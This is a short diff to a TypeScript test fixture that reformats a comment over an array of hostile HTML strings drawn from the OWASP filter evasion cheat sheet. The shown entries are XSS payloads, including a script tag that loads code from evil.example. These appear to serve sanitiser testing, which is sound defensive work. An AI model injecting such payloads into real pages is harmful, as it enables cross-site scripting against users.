@@ -1,4 +1,7 @@
-/** Texts that would do harm as HTML, after the OWASP filter evasion cheat sheet and its neighbours; for tests (docs/quality#row-114 to docs/quality#row-118). */
+/**
+ * HTML attacks for tests, from the OWASP filter evasion cheat sheet and similar sources (docs/quality#row-114 to
+ * docs/quality#row-118).
+ */
 export const hostile: readonly string[] = [
   '<script>window.__xss=1</script>',
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
